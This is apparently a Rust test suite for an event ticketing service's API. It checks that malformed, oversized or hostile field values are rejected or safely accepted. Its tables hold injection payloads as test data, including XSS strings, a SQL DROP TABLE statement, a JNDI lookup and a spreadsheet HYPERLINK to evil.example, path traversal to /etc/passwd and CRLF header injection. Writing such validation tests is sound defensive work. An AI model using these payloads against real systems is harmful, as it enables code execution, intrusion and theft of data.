//! Fields of an event: numbers, times, texts and lists beyond their limits.

use serde_json::{Value, json};
use tests::sample;

use crate::{
    case::{Case, table},
    service::{assert_accepted, assert_rejected},
};

#[tokio::test(flavor = "multi_thread")]
async fn hostile_fields_are_rejected() {
    assert_rejected(&rejected(), 162).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn harmless_fields_are_accepted() {
    assert_accepted(&accepted(), 45).await;
}

fn rejected() -> Vec<Case> {
    let of = |kind: &'static str, pointer: &'static str, cases: &[(&str, &str)]| {
        table(cases, "C_001", |name, json, code| Case::field(format!("{kind} {name}"), pointer, json, code))
    };
    [
        of("price", "/areas/0/price", PRICES),
        of("coordinate", "/areas/0/seats/0/cx", COORDINATES),
        of("row", "/areas/0/seats/0/row", ROWS),
        of("time", "/eventOpenTime", TIMES),
        of("title", "/title", LINES),
        of("place", "/place", LINES),
        of("description", "/description", PARAGRAPHS),
        of("areas", "/areas", LISTS),
        of("shows", "/eventDatetimes", LISTS),
        of("map", "/totalMap", MAPS),
        table(INVALID_NUMBERS, "C_002", |name, json, code| {
            Case::field(format!("price {name}"), "/areas/0/price", json, code)
        }),
        edits("title", LINES),
        edits("place", LINES),
        edits("description", PARAGRAPHS),
        edits("eventOpenTime", TIMES),
        edits("eventDatetimes", LISTS),
        ["id", "thumbnail", "totalMap", "areas"].map(|field| edits(field, UNCHANGEABLE)).concat(),
        invalid_lists(),
    ]
    .concat()
}

fn accepted() -> Vec<Case> {
    let of = |kind: &'static str, pointer: &'static str, cases: &[(&str, &str)]| {
        table(cases, "0", |name, json, code| Case::field(format!("{kind} {name}"), pointer, json, code))
    };
    [
        of("price", "/areas/0/price", NUMBERS),
        of("coordinate", "/areas/0/seats/0/cx", NUMBERS),
        of("row", "/areas/0/seats/0/row", NUMBERS),
        of("title", "/title", TEXTS),
        of("artist", "/artist", TEXTS),
    ]
    .concat()
}

/// Edits of a field.
fn edits(field: &str, values: &[(&str, &str)]) -> Vec<Case> {
    table(values, "C_001", |name, json, code| {
        Case::edit(format!("edit of {field} {name}"), format!("{{\"{field}\":{json}}}"), code)
    })
}

/// Lists that are too long or have duplicates.
fn invalid_lists() -> Vec<Case> {
    let seats = |count: u32| -> Value {
        (0..count).map(|number| json!({"cx": 0, "cy": 0, "row": 1, "number": number})).collect()
    };
    let area = |label: &str| json!({"label": label, "price": 0, "areaMap": "/a", "seats": []});
    let event_with_seats = |seats: Value| {
        let mut event = sample::event();
        event["areas"][0]["seats"] = seats;
        event
    };
    let with = |name: &str, pointer: &str, value: Value| {
        let mut event = sample::event();
        *event.pointer_mut(pointer).unwrap() = value;
        Case::event(name, &event, "C_001")
    };
    vec![
        Case::create("one seat too many", &sample::gzip_form(&event_with_seats(seats(100_000))), "C_001"),
        with(
            "a duplicate seat",
            "/areas/0/seats",
            [seats(9), seats(1)].iter().flat_map(|seats| seats.as_array().unwrap().clone()).collect(),
        ),
        with(
            "a duplicate seat in another notation",
            "/areas/0/seats/1",
            json!({"cx": 1, "cy": 1, "row": 1.0, "number": 10e-1}),
        ),
        with("one area too many", "/areas", (0..501).map(|n| area(&n.to_string())).collect()),
        with("two areas with the same label", "/areas", json!([area("a"), area("a")])),
        with("one show too many", "/eventDatetimes", (0..61).collect()),
        with("a duplicate show in another notation", "/eventDatetimes", json!([0, "1970-01-01T09:00:00+09:00"])),
        with("a label of markup", "/areas/0/label", json!("<svg/onload=alert(1)>".repeat(3))),
        with("drawings one byte too large", "/totalMap", json!(format!("/{}", "a".repeat(1_048_576)))),
    ]
}

/// Values of fields that no edit changes.
const UNCHANGEABLE: &[(&str, &str)] =
    &[("to null", "null"), ("to a text", "\"<script>\""), ("to an empty list", "[]"), ("to an object", "{\"a\":{}}")];

const PRICES: &[(&str, &str)] = &[
    ("that overflows", "1e999999"),
    ("with an exponent that overflows", "1e99999999999999999999"),
    ("slightly below zero", "-0.01"),
    ("far below zero", "-1e999999"),
    ("of three decimals", "0.001"),
    ("that underflows", "1e-999999"),
    ("one hundredth too high", "1000000000.01"),
    ("in a string", "\"132000\""),
    ("in an array", "[132000]"),
    ("in an object", "{\"N\":\"132000\"}"),
    ("that is true", "true"),
];

const COORDINATES: &[(&str, &str)] = &[
    ("that overflows", "1e999999"),
    ("just beyond the limit", "1000000.0000001"),
    ("far below the limit", "-1e308"),
    ("in a string", "\"1\""),
    ("that is null", "null"),
    ("of markup", "\"0' onload='alert(1)\""),
];

const ROWS: &[(&str, &str)] = &[
    ("that overflows", "1e999999"),
    ("one too high", "2147483648"),
    ("of 33 bits", "4294967296"),
    ("of 65 bits", "18446744073709551617"),
    ("below zero", "-1"),
    ("of a half", "1.5"),
    ("slightly above one", "1.0000000000000000000000001"),
    ("of a tenth", "1e-1"),
    ("in a string", "\"1\""),
];

const TIMES: &[(&str, &str)] = &[
    ("that overflows", "1e999999"),
    ("before the first", "-1"),
    ("slightly before the first", "-0.000000001"),
    ("after the last", "253402300800"),
    ("of ten decimals", "1.0000000001"),
    ("of only a day", "\"2025-04-18\""),
    ("without offset", "\"2025-04-18T14:00:00\""),
    ("with an offset of four days", "\"2025-04-18T14:00:00+99:00\""),
    ("in a year of five digits", "\"+12025-04-18T14:00:00Z\""),
    ("in a year before the first", "\"-2025-04-18T14:00:00Z\""),
    ("on an impossible day", "\"2025-02-30T00:00:00Z\""),
    ("of ten decimals in a string", "\"2025-04-18T14:00:00.0000000001Z\""),
    ("with a NUL", "\"2025-04-18T14:00:00Z\\u0000\""),
    ("in full-width digits", "\"２０２５-04-18T14:00:00Z\""),
    ("of a number in a string", "\"1745557200\""),
    ("that is an object", "{\"$date\":0}"),
];

pub const LINES: &[(&str, &str)] = &[
    ("with a header", "\"a\\r\\nSet-Cookie: b=c\""),
    ("with a NUL", "\"a\\u0000\""),
    ("with an escape sequence", "\"\\u001b]0;a\\u0007\""),
    ("with a next-line character", "\"a\\u0085b\""),
    ("with a tab", "\"a\\tb\""),
    ("of white space of every kind", "\"\\u3000\\u2000\\u00a0\\n\""),
    ("of invisible characters", "\"\\u200b\\ufeff\\u00ad\""),
    ("that is a number", "1"),
    ("that is an object", "{\"toString\":\"a\"}"),
];

const PARAGRAPHS: &[(&str, &str)] = &[
    ("with a NUL", "\"a\\u0000\""),
    ("with an escape sequence", "\"\\u001b[2J\""),
    ("with a delete character", "\"\\u007f\""),
    ("of Hangul fillers", "\"\\u3164\\uffa0\\u115f\\u1160\""),
    ("that is an array of texts", "[\"a\"]"),
];

const LISTS: &[(&str, &str)] = &[
    ("that are null", "null"),
    ("that are empty", "[]"),
    ("that are a string", "\"[]\""),
    ("that are an object with a length", "{\"length\":1,\"0\":{}}"),
    ("in arrays", "[[[]]]"),
    ("that are nulls", "[null,null]"),
    ("with a prototype", "[{\"__proto__\":{}}]"),
];

const MAPS: &[(&str, &str)] = &[
    ("that is a number", "1"),
    ("that is an object", "{\"svg\":\"<svg/>\"}"),
    (
        "with an escaped script",
        "\"\\u003csvg\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u003c/svg\\u003e\"",
    ),
    ("with an escaped NUL", "\"<svg>\\u0000</svg>\""),
    ("of an escaped byte order mark", "\"\\ufeff\""),
    ("with two escaped byte order marks", "\"\\ufeff\\ufeff<svg/>\""),
];

/// Values that make the whole body invalid JSON.
const INVALID_NUMBERS: &[(&str, &str)] = &[
    ("that is NaN", "NaN"),
    ("that is infinite", "-Infinity"),
    ("in hexadecimal digits", "0x1"),
    ("with a leading zero", "01"),
    ("with a comma in it", "132,000"),
    ("that ends the object", "1}],\"areas\":[{"),
];

/// Zero and one in unusual notations.
const NUMBERS: &[(&str, &str)] = &[
    ("of negative zero", "-0"),
    ("of zero with a huge exponent", "0e999999"),
    ("of negative zero with all parts", "-0.000e-999999"),
    ("with an exponent", "1E+0"),
    ("with a zero fraction", "1.000"),
    ("shifted up", "0.001e3"),
    ("shifted down", "1000e-3"),
];

/// Harmless texts that look like code.
const TEXTS: &[(&str, &str)] = &[
    ("of markup", "\"<script>alert(1)</script>\""),
    ("that ends an attribute", "\"' onload='alert(1)\\\"><svg/onload=alert(1)>\""),
    ("that ends a title", "\"</title><image href=x onerror=alert(1)>]]>-->\""),
    ("of a template", "\"{{7*7}}${7*7}<%= 7*7 %>#{7*7}\""),
    ("of a statement", "\"'; DROP TABLE events; --\""),
    ("of a formula", "\"=HYPERLINK(\\\"https://evil.example\\\")\""),
    ("of a lookup", "\"${jndi:ldap://evil.example/a}\""),
    ("of a path", "\"../../etc/passwd\""),
    ("of a key", "\"EVENT#1\""),
    ("with a right-to-left override", "\"\\u202egnp.exe\\u2066\""),
    ("with invisible characters", "\"\\u200b\\ufeffa\\u00ad\""),
    ("of noncharacters", "\"\\uffff\\ufffe\""),
];
